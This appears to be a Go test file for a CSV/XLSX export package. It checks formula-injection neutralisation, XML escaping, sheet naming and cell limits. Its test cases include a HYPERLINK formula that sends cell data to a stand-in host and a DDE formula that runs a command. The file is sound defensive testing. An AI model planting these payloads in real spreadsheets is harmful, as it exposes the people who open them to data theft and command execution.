package export

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"encoding/xml"
	"errors"
	"io"
	"slices"
	"strconv"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"
)

// secret stands for personal data in a cell; no error may repeat it.
const secret = "Kim Min-jun 010-1234-5678"

func TestNeutralise(t *testing.T) {
	tests := []struct {
		rule string
		in   string
		want string
	}{
		// Dangerous prefixes: OWASP "CSV Injection".
		{"OWASP CSV injection: leading =", "=1+1", "'=1+1"},
		{"OWASP CSV injection: leading = (HYPERLINK exfiltration)", `=HYPERLINK("http://evil.example/?"&A1,"x")`, `'=HYPERLINK("http://evil.example/?"&A1,"x")`},
		{"OWASP CSV injection: leading = (DDE)", `=cmd|' /C calc'!A0`, `'=cmd|' /C calc'!A0`},
		{"OWASP CSV injection: leading +", "+1+1", "'+1+1"},
		{"OWASP CSV injection: leading -", "-1+1", "'-1+1"},
		{"OWASP CSV injection: leading @", "@SUM(A1:A2)", "'@SUM(A1:A2)"},
		{"OWASP CSV injection: leading TAB", "\t=1", "'\t=1"},
		{"OWASP CSV injection: leading TAB alone", "\tx", "'\tx"},
		{"OWASP CSV injection: leading CR", "\r=1", "'\r=1"},
		{"OWASP CSV injection: leading CR alone", "\rx", "'\rx"},
		// Negative numbers are text in an export: neutralised by design.
		{"OWASP CSV injection: leading - (negative number as text is neutralised, documented)", "-5", "'-5"},
		{"OWASP CSV injection: leading + (phone number is neutralised, documented)", "+41 22 000 00 00", "'+41 22 000 00 00"},
		// Full-width forms.
		{"full-width variant: leading ＝ (U+FF1D)", "＝1+1", "'＝1+1"},
		{"full-width variant: leading ＋ (U+FF0B)", "＋1", "'＋1"},
		{"full-width variant: leading － (U+FF0D)", "－1", "'－1"},
		{"full-width variant: leading ＠ (U+FF20)", "＠SUM(A1)", "'＠SUM(A1)"},
		// Leading whitespace before a dangerous character.
		{"leading whitespace: space then =", " =1", "' =1"},
		{"leading whitespace: spaces then +", "   +1", "'   +1"},
		{"leading whitespace: LF then -", "\n-1", "'\n-1"},
		{"leading whitespace: space then TAB", " \tx", "' \tx"},
		{"leading whitespace: space then CR", " \rx", "' \rx"},
		{"leading whitespace: NBSP then @", "\u00a0@x", "'\u00a0@x"},
		{"leading whitespace: ideographic space then ＝", "\u3000＝1", "'\u3000＝1"},
		{"leading invisible format char: ZERO WIDTH SPACE then =", "\u200b=1", "'\u200b=1"},
		{"leading invisible format char: BOM then =", "\ufeff=1", "'\ufeff=1"},
		{"leading invisible format char: RLO then =", "\u202e=1", "'\u202e=1"},
		// Safe strings are untouched.
		{"safe: empty", "", ""},
		{"safe: plain text", "hello", "hello"},
		{"safe: positive number", "5", "5"},
		{"safe: = not leading", "a=b", "a=b"},
		{"safe: - not leading (date)", "2024-05-01", "2024-05-01"},
		{"safe: @ not leading (email)", "case@example.org", "case@example.org"},
		{"safe: already neutralised (idempotent)", "'=1", "'=1"},
		{"safe: whitespace only", "   ", "   "},
		{"safe: LF only", "\n", "\n"},
		{"safe: leading space then text", " note", " note"},
		{"safe: Korean", "김민준", "김민준"},
		{"safe: Thai", "สมชาย", "สมชาย"},
		{"safe: Nepali", "नेपाल", "नेपाल"},
		{"safe: invalid UTF-8 first", "\xff=1", "\xff=1"},
		{"safe: control char first is not a prefix (XLSX strips it before Neutralise)", "\x01=1", "\x01=1"},
	}
	for _, tt := range tests {
		t.Run(tt.rule, func(t *testing.T) {
			if got := Neutralise(tt.in); got != tt.want {
				t.Errorf("Neutralise(%q) = %q, want %q", tt.in, got, tt.want)
			}
			if got := Neutralise(Neutralise(tt.in)); got != tt.want {
				t.Errorf("Neutralise is not idempotent on %q: %q", tt.in, got)
			}
		})
	}
}

// checkNeutral fails if s, as written to a cell, could begin a formula: its
// first character other than whitespace or format characters must not be
// = + - @ (or their full-width forms), TAB or CR, unless s begins with a quote.
// It is written from the rule, independently of Neutralise.
func checkNeutral(t *testing.T, s string) {
	t.Helper()
	if strings.HasPrefix(s, "'") {
		return
	}
	for _, r := range s {
		if strings.ContainsRune("=+-@\t\r＝＋－＠", r) {
			t.Fatalf("%q begins with dangerous %q", s, r)
		}
		if !unicode.IsSpace(r) && !unicode.Is(unicode.Cf, r) {
			return
		}
	}
}

func FuzzNeutralise(f *testing.F) {
	for _, s := range []string{"", "=1", "-5", " +1", "\t", "\r", "＝", "\u3000＠", "'=1", "plain", "\xff", "\u200b-"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		got := Neutralise(s)
		if got != s && got != "'"+s {
			t.Fatalf("Neutralise(%q) = %q: neither unchanged nor quoted", s, got)
		}
		checkNeutral(t, got)
		if again := Neutralise(got); again != got {
			t.Fatalf("Neutralise not idempotent: %q then %q", got, again)
		}
	})
}

// csvOf is tab as WriteCSV writes it.
func csvOf(t testing.TB, tab Table) []byte {
	t.Helper()
	var b bytes.Buffer
	if err := WriteCSV(&b, tab); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// xlsxOf is tab as WriteXLSX writes it, on a sheet named sheet.
func xlsxOf(t testing.TB, tab Table, sheet string) []byte {
	t.Helper()
	var b bytes.Buffer
	if err := WriteXLSX(&b, tab, sheet); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// readCSV parses an export written by WriteCSV, checking the BOM and line
// endings on the way.
func readCSV(t *testing.T, b []byte) [][]string {
	t.Helper()
	rest, ok := bytes.CutPrefix(b, []byte(bom))
	if !ok {
		t.Fatalf("RFC 4180 + Excel: no UTF-8 BOM at start: %q", b[:min(len(b), 8)])
	}
	for i, c := range rest {
		if c == '\n' && (i == 0 || rest[i-1] != '\r') {
			t.Fatalf("RFC 4180: bare LF at byte %d", i)
		}
	}
	if !bytes.HasSuffix(rest, []byte("\r\n")) {
		t.Fatalf("RFC 4180: last record not ended by CRLF")
	}
	recs, err := csv.NewReader(bytes.NewReader(rest)).ReadAll()
	if err != nil {
		t.Fatalf("reading back: %v", err)
	}
	return recs
}

// csvWant is what encoding/csv reads back for cell c: neutralised, with
// line breaks as LF and lone CRs dropped (see WriteCSV).
func csvWant(c string) string { return strings.ReplaceAll(Neutralise(c), "\r", "") }

func TestWriteCSVExact(t *testing.T) {
	tab := Table{
		Header: []string{"id", "name", "note"},
		Rows: [][]string{
			{"1", "김민준", `said "help", then left`},
			{"2", "=1+1", "line1\nline2"},
		},
	}
	got := string(csvOf(t, tab))
	want := "\ufeffid,name,note\r\n" +
		"1,김민준,\"said \"\"help\"\", then left\"\r\n" +
		"2,'=1+1,\"line1\r\nline2\"\r\n"
	if got != want {
		t.Errorf("RFC 4180 + BOM + CRLF + Neutralise:\ngot  %q\nwant %q", got, want)
	}
}

func TestWriteCSVRoundTrip(t *testing.T) {
	tests := []struct {
		rule string
		tab  Table
	}{
		{"RFC 4180: comma in a cell is quoted", Table{[]string{"a", "b"}, [][]string{{"x,y", "z"}}}},
		{"RFC 4180: quote in a cell is doubled", Table{[]string{"a", "b"}, [][]string{{`say "hi"`, `"`}}}},
		{"RFC 4180: line breaks in a cell are quoted (CRLF read back as LF)", Table{[]string{"a", "b"}, [][]string{{"l1\nl2", "l1\r\nl2\r\n"}}}},
		{"UTF-8 BOM: Korean, Thai and Nepali survive", Table{[]string{"이름", "ชื่อ", "नाम"}, [][]string{{"김민준", "สมชาย", "राम"}}}},
		{"OWASP CSV injection: formulas read back neutralised", Table{[]string{"=h", "b"}, [][]string{{"=1+1", "-5"}, {"@x", "\t=1"}, {" +1", "＝1"}}}},
		{"RFC 4180: leading and trailing spaces kept", Table{[]string{"a"}, [][]string{{"  x  "}}}},
		{"RFC 4180: empty cells kept", Table{[]string{"a", "b"}, [][]string{{"", ""}}}},
		{"RFC 4180: a single empty cell is a row, not a blank line", Table{[]string{"a"}, [][]string{{""}, {"x"}, {""}}}},
		{"header only", Table{[]string{"a", "b"}, nil}},
	}
	for _, tt := range tests {
		t.Run(tt.rule, func(t *testing.T) {
			got := readCSV(t, csvOf(t, tt.tab))
			want := [][]string{mapCells(tt.tab.Header, csvWant)}
			for _, row := range tt.tab.Rows {
				want = append(want, mapCells(row, csvWant))
			}
			if !slices.EqualFunc(got, want, slices.Equal) {
				t.Errorf("read back %q, want %q", got, want)
			}
		})
	}
}

func mapCells(cells []string, f func(string) string) []string {
	out := make([]string, len(cells))
	for i, c := range cells {
		out[i] = f(c)
	}
	return out
}

func FuzzCSV(f *testing.F) {
	f.Add("a", "b")
	f.Add("=1,2", "\"x\"\r\n")
	f.Add("", "\r")
	f.Add("김민준", "-5")
	f.Fuzz(func(t *testing.T, a, b string) {
		for _, tab := range []Table{{[]string{a}, [][]string{{b}}}, {[]string{a, b}, [][]string{{b, a}}}} {
			got := readCSV(t, csvOf(t, tab))
			want := [][]string{mapCells(tab.Header, csvWant), mapCells(tab.Rows[0], csvWant)}
			if !slices.EqualFunc(got, want, slices.Equal) {
				t.Fatalf("read back %q, want %q", got, want)
			}
			for _, rec := range got {
				for _, c := range rec {
					checkNeutral(t, c)
				}
			}
		}
	})
}

// Errors common to both formats.
func TestRefusedTables(t *testing.T) {
	tooMany := make([][]string, MaxRows+1)
	for i := range tooMany {
		tooMany[i] = []string{secret}
	}
	tests := []struct {
		rule string
		tab  Table
		want error
	}{
		{"row length: a row with fewer cells than the header", Table{[]string{"a", "b"}, [][]string{{secret, secret}, {secret}}}, ErrRowLength},
		{"row length: a row with more cells than the header", Table{[]string{"a"}, [][]string{{secret, secret}}}, ErrRowLength},
		{"MaxRows: more than 100000 rows", Table{[]string{"a"}, tooMany}, ErrTooManyRows},
		{"header: none", Table{nil, [][]string{{secret}}}, ErrNoHeader},
		{"MaxColumns: more than 16384 columns", Table{make([]string, MaxColumns+1), nil}, ErrTooManyColumns},
	}
	writers := []struct {
		name  string
		write func(io.Writer, Table) error
	}{
		{"CSV", WriteCSV},
		{"XLSX", func(w io.Writer, t Table) error { return WriteXLSX(w, t, "Cases") }},
	}
	for _, tt := range tests {
		for _, wr := range writers {
			t.Run(wr.name+"/"+tt.rule, func(t *testing.T) {
				var b bytes.Buffer
				err := wr.write(&b, tt.tab)
				if !errors.Is(err, tt.want) {
					t.Fatalf("error %v, want %v", err, tt.want)
				}
				if b.Len() != 0 {
					t.Errorf("a refused table wrote %d bytes", b.Len())
				}
				if strings.Contains(err.Error(), secret) || strings.Contains(err.Error(), "Kim") {
					t.Errorf("error holds cell contents: %v", err)
				}
			})
		}
	}
}

func TestRowLengthErrorNamesRow(t *testing.T) {
	tab := Table{[]string{"a", "b"}, [][]string{{"1", "2"}, {"3", "4"}, {secret}}}
	err := WriteCSV(io.Discard, tab)
	if err == nil || !strings.Contains(err.Error(), "row 3") {
		t.Errorf("error %v: want it to name row 3", err)
	}
}

func TestMaxRowsAccepted(t *testing.T) {
	rows := make([][]string, MaxRows)
	for i := range rows {
		rows[i] = []string{"x"}
	}
	if err := WriteCSV(io.Discard, Table{[]string{"a"}, rows}); err != nil {
		t.Errorf("MaxRows: exactly 100000 rows refused: %v", err)
	}
	if err := WriteXLSX(io.Discard, Table{[]string{"a"}, rows}, ""); err != nil {
		t.Errorf("MaxRows: exactly 100000 rows refused: %v", err)
	}
}

type failWriter struct{}

func (failWriter) Write([]byte) (int, error) { return 0, errors.New("disk full") }

func TestWriterErrorReturned(t *testing.T) {
	tab := Table{[]string{"a"}, [][]string{{"x"}}}
	if err := WriteCSV(failWriter{}, tab); err == nil {
		t.Error("CSV: a failing writer's error was lost")
	}
	if err := WriteXLSX(failWriter{}, tab, ""); err == nil {
		t.Error("XLSX: a failing writer's error was lost")
	}
}

// XLSX.

var requiredParts = []string{
	"[Content_Types].xml",
	"_rels/.rels",
	"xl/workbook.xml",
	"xl/_rels/workbook.xml.rels",
	"xl/worksheets/sheet1.xml",
	"xl/styles.xml",
}

type xCell struct {
	R    string    `xml:"r,attr"`
	T    string    `xml:"t,attr"`
	S    string    `xml:"s,attr"`
	F    *struct{} `xml:"f"`
	V    *string   `xml:"v"`
	Text *string   `xml:"is>t"`
}

type xSheet struct {
	XMLName xml.Name `xml:"http://schemas.openxmlformats.org/spreadsheetml/2006/main worksheet"`
	Rows    []struct {
		R     string  `xml:"r,attr"`
		Cells []xCell `xml:"c"`
	} `xml:"sheetData>row"`
}

type xWorkbook struct {
	Sheets []struct {
		Name string `xml:"name,attr"`
	} `xml:"sheets>sheet"`
}

// openXLSX checks that b is a zip holding the required parts, each
// well-formed XML without a formula element, and returns the parts.
func openXLSX(t testing.TB, b []byte) map[string][]byte {
	t.Helper()
	zr, err := zip.NewReader(bytes.NewReader(b), int64(len(b)))
	if err != nil {
		t.Fatalf("OOXML: not a zip: %v", err)
	}
	parts := map[string][]byte{}
	for _, f := range zr.File {
		rc, err := f.Open()
		if err != nil {
			t.Fatalf("OOXML: opening %s: %v", f.Name, err)
		}
		data, err := io.ReadAll(rc)
		rc.Close()
		if err != nil {
			t.Fatalf("OOXML: reading %s: %v", f.Name, err)
		}
		if !f.Modified.Equal(zipTime) {
			t.Errorf("determinism: %s modified %v, want %v", f.Name, f.Modified, zipTime)
		}
		parts[f.Name] = data
	}
	for _, name := range requiredParts {
		data, ok := parts[name]
		if !ok {
			t.Fatalf("OOXML: part %s missing", name)
		}
		d := xml.NewDecoder(bytes.NewReader(data))
		for {
			tok, err := d.Token()
			if err == io.EOF {
				break
			}
			if err != nil {
				t.Fatalf("OOXML: %s is not well-formed XML: %v", name, err)
			}
			if se, ok := tok.(xml.StartElement); ok && se.Name.Local == "f" {
				t.Fatalf("no formulas: <f> element in %s", name)
			}
		}
	}
	return parts
}

// readSheet parses sheet1.xml, checks every cell is an inline string with
// the text style and no value or formula, and returns the cell texts.
func readSheet(t testing.TB, parts map[string][]byte) [][]string {
	t.Helper()
	var s xSheet
	if err := xml.Unmarshal(parts["xl/worksheets/sheet1.xml"], &s); err != nil {
		t.Fatalf("sheet1.xml: %v", err)
	}
	var out [][]string
	for i, row := range s.Rows {
		if row.R != strconv.Itoa(i+1) {
			t.Errorf("row %d numbered %q", i+1, row.R)
		}
		var texts []string
		for j, c := range row.Cells {
			if c.T != "inlineStr" {
				t.Errorf("inline strings only: cell %s has t=%q", c.R, c.T)
			}
			if c.S != textStyle {
				t.Errorf("text style: cell %s has s=%q", c.R, c.S)
			}
			if c.F != nil || c.V != nil {
				t.Errorf("no formulas or values: cell %s has <f> or <v>", c.R)
			}
			if want := columnName(j) + row.R; c.R != want {
				t.Errorf("cell reference %q, want %q", c.R, want)
			}
			if c.Text == nil {
				t.Fatalf("inline strings only: cell %s has no <is><t>", c.R)
			}
			texts = append(texts, *c.Text)
		}
		out = append(out, texts)
	}
	return out
}

func sheetName(t testing.TB, parts map[string][]byte) string {
	t.Helper()
	var wb xWorkbook
	if err := xml.Unmarshal(parts["xl/workbook.xml"], &wb); err != nil {
		t.Fatalf("workbook.xml: %v", err)
	}
	if len(wb.Sheets) != 1 {
		t.Fatalf("workbook has %d sheets, want 1", len(wb.Sheets))
	}
	return wb.Sheets[0].Name
}

// xlsxWant is the text a cell holds after WriteXLSX.
func xlsxWant(c string) string { return Neutralise(xmlSafe(c)) }

func TestWriteXLSXRoundTrip(t *testing.T) {
	tests := []struct {
		rule string
		in   string
		want string
	}{
		{"XML escaping: <", "a<b", "a<b"},
		{"XML escaping: &", "Tom & Jerry", "Tom & Jerry"},
		{"XML escaping: >, quotes and ]]>", `x > "y" 'z' ]]>`, `x > "y" 'z' ]]>`},
		{"XML escaping: markup is text", "<f>SUM(A1)</f>", "<f>SUM(A1)</f>"},
		{"UTF-8: Korean", "김민준", "김민준"},
		{"UTF-8: Thai and Nepali", "สมชาย नेपाल", "สมชาย नेपाल"},
		{"UTF-8: outside the BMP", "𝔘 😀", "𝔘 😀"},
		{"xml:space=preserve: spaces kept", "  x  ", "  x  "},
		{"XML 1.0: TAB, LF and CR kept", "a\tb\nc\rd\r\n", "a\tb\nc\rd\r\n"},
		{"XML 1.0: NUL removed", "a\x00b", "ab"},
		{"XML 1.0: C0 controls removed", "a\x01\x08\x0b\x0c\x1fb", "ab"},
		{"XML 1.0: U+FFFE and U+FFFF removed", "a\ufffe\uffffb", "ab"},
		{"XML 1.0: invalid UTF-8 becomes U+FFFD", "a\xffb", "a\ufffdb"},
		{"OWASP CSV injection: leading = neutralised in XLSX too", "=1+1", "'=1+1"},
		{"OWASP CSV injection: -5 neutralised (documented)", "-5", "'-5"},
		{"OWASP CSV injection: control char removed before Neutralise, = not exposed", "\x01=1", "'=1"},
		{"OWASP CSV injection: NUL removed before Neutralise, @ not exposed", "\x00\x00@x", "'@x"},
		{"empty cell", "", ""},
	}
	header := []string{"rule", "value"}
	var rows [][]string
	for _, tt := range tests {
		rows = append(rows, []string{tt.rule, tt.in})
	}
	parts := openXLSX(t, xlsxOf(t, Table{header, rows}, "Cases"))
	got := readSheet(t, parts)
	if len(got) != len(tests)+1 {
		t.Fatalf("sheet has %d rows, want %d", len(got), len(tests)+1)
	}
	if !slices.Equal(got[0], header) {
		t.Errorf("header row %q, want %q", got[0], header)
	}
	for i, tt := range tests {
		if g := got[i+1]; len(g) != 2 || g[1] != tt.want {
			t.Errorf("%s: cell %q read back as %q, want %q", tt.rule, tt.in, g, tt.want)
		}
	}
	if bytes.Contains(parts["xl/worksheets/sheet1.xml"], []byte("<f>")) {
		t.Error("no formulas: literal <f> in sheet1.xml")
	}
}

func TestWriteXLSXParts(t *testing.T) {
	parts := openXLSX(t, xlsxOf(t, Table{[]string{"a"}, [][]string{{"x"}}}, "Cases"))
	ct := string(parts["[Content_Types].xml"])
	for _, want := range []string{
		`PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"`,
		`PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"`,
		`PartName="/xl/styles.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.styles+xml"`,
	} {
		if !strings.Contains(ct, want) {
			t.Errorf("OOXML content types: missing %s", want)
		}
	}
	if !strings.Contains(string(parts["xl/styles.xml"]), `numFmtId="49"`) {
		t.Error("text style: styles.xml lacks number format 49 (@)")
	}
	if len(parts) != len(requiredParts) {
		t.Errorf("zip holds %d parts, want %d", len(parts), len(requiredParts))
	}
}

func TestWriteXLSXDeterministic(t *testing.T) {
	tab := Table{[]string{"id", "이름"}, [][]string{{"1", "김민준"}, {"2", "=x"}}}
	if !bytes.Equal(xlsxOf(t, tab, "Cases"), xlsxOf(t, tab, "Cases")) {
		t.Error("determinism: two writes of the same table differ")
	}
}

func TestSheetName(t *testing.T) {
	tests := []struct {
		rule string
		in   string
		want string
	}{
		{"valid: plain", "Cases 2024", "Cases 2024"},
		{"valid: Korean", "사례 목록", "사례 목록"},
		{"valid: 31 characters", strings.Repeat("x", 31), strings.Repeat("x", 31)},
		{"valid: XML specials are escaped, not refused", `A&B <"x">`, `A&B <"x">`},
		{"valid: quote inside", "O'Brien cases", "O'Brien cases"},
		{"fallback: empty", "", DefaultSheetName},
		{"fallback: 32 characters", strings.Repeat("x", 32), DefaultSheetName},
		{"fallback: 16 astral characters are 32 UTF-16 units", strings.Repeat("😀", 16), DefaultSheetName},
		{"fallback: [", "a[b", DefaultSheetName},
		{"fallback: ]", "a]b", DefaultSheetName},
		{"fallback: :", "a:b", DefaultSheetName},
		{"fallback: *", "a*b", DefaultSheetName},
		{"fallback: ?", "a?b", DefaultSheetName},
		{"fallback: /", "a/b", DefaultSheetName},
		{"fallback: \\", `a\b`, DefaultSheetName},
		{"fallback: leading quote", "'a", DefaultSheetName},
		{"fallback: trailing quote", "a'", DefaultSheetName},
		{"fallback: reserved History", "history", DefaultSheetName},
		{"fallback: control character", "a\x00b", DefaultSheetName},
		{"fallback: TAB", "a\tb", DefaultSheetName},
		{"fallback: invalid UTF-8", "a\xffb", DefaultSheetName},
	}
	for _, tt := range tests {
		t.Run(tt.rule, func(t *testing.T) {
			if got := sheetName(t, openXLSX(t, xlsxOf(t, Table{[]string{"a"}, nil}, tt.in))); got != tt.want {
				t.Errorf("sheet name %q became %q, want %q", tt.in, got, tt.want)
			}
		})
	}
}

func TestColumnName(t *testing.T) {
	tests := []struct {
		i    int
		want string
	}{{0, "A"}, {25, "Z"}, {26, "AA"}, {27, "AB"}, {51, "AZ"}, {52, "BA"}, {701, "ZZ"}, {702, "AAA"}, {MaxColumns - 1, "XFD"}}
	for _, tt := range tests {
		if got := columnName(tt.i); got != tt.want {
			t.Errorf("A1 reference: columnName(%d) = %q, want %q", tt.i, got, tt.want)
		}
	}
}

func TestWriteXLSXWideTable(t *testing.T) {
	header := make([]string, 30)
	row := make([]string, 30)
	for i := range header {
		header[i] = columnName(i)
		row[i] = "v" + columnName(i)
	}
	got := readSheet(t, openXLSX(t, xlsxOf(t, Table{header, [][]string{row}}, ""))) // checks AA1, AB1, … references
	if !slices.Equal(got[1], row) {
		t.Errorf("row read back %q", got[1])
	}
}

func TestWriteXLSXCellTooLong(t *testing.T) {
	ok := strings.Repeat("x", MaxCellChars)
	if err := WriteXLSX(io.Discard, Table{[]string{"a"}, [][]string{{ok}}}, ""); err != nil {
		t.Errorf("Excel cell limit: %d characters refused: %v", MaxCellChars, err)
	}
	tests := []struct {
		rule string
		cell string
		row  string
	}{
		{"Excel cell limit: one character over", secret + strings.Repeat("x", MaxCellChars), "row 2"},
		{"Excel cell limit: the quote Neutralise adds counts", "=" + strings.Repeat("x", MaxCellChars-1), "row 2"},
		{"Excel cell limit: astral characters count twice", strings.Repeat("😀", MaxCellChars/2+1), "row 2"},
	}
	for _, tt := range tests {
		t.Run(tt.rule, func(t *testing.T) {
			var b bytes.Buffer
			err := WriteXLSX(&b, Table{[]string{"a"}, [][]string{{"short"}, {tt.cell}}}, "")
			if !errors.Is(err, ErrCellTooLong) {
				t.Fatalf("error %v, want ErrCellTooLong", err)
			}
			if !strings.Contains(err.Error(), tt.row) || strings.Contains(err.Error(), "Kim") {
				t.Errorf("error %q: want %s and no cell contents", err, tt.row)
			}
			if b.Len() != 0 {
				t.Errorf("a refused table wrote %d bytes", b.Len())
			}
		})
	}
	err := WriteXLSX(io.Discard, Table{[]string{strings.Repeat("x", MaxCellChars+1)}, nil}, "")
	if !errors.Is(err, ErrCellTooLong) || !strings.Contains(err.Error(), "header") {
		t.Errorf("Excel cell limit in header: error %v", err)
	}
}

func FuzzXLSX(f *testing.F) {
	f.Add("a", "b")
	f.Add("=1+1", "<&>\x00")
	f.Add("김민준", "\r\n\t")
	f.Add("Cases", "\xff\ufffe")
	f.Add("'", "]]>")
	f.Fuzz(func(t *testing.T, a, b string) {
		tab := Table{[]string{a, b}, [][]string{{b, a}, {a + b, b + a}}}
		var buf bytes.Buffer
		err := WriteXLSX(&buf, tab, a)
		if errors.Is(err, ErrCellTooLong) {
			return
		}
		if err != nil {
			t.Fatal(err)
		}
		parts := openXLSX(t, buf.Bytes())
		got := readSheet(t, parts)
		want := [][]string{mapCells(tab.Header, xlsxWant), mapCells(tab.Rows[0], xlsxWant), mapCells(tab.Rows[1], xlsxWant)}
		if !slices.EqualFunc(got, want, slices.Equal) {
			t.Fatalf("read back %q, want %q", got, want)
		}
		for _, row := range got {
			for _, c := range row {
				checkNeutral(t, c)
				if !utf8.ValidString(c) {
					t.Fatalf("cell %q is not valid UTF-8", c)
				}
			}
		}
		if name := sheetName(t, parts); name != a && name != DefaultSheetName {
			t.Fatalf("sheet name %q from %q", name, a)
		}
	})
}
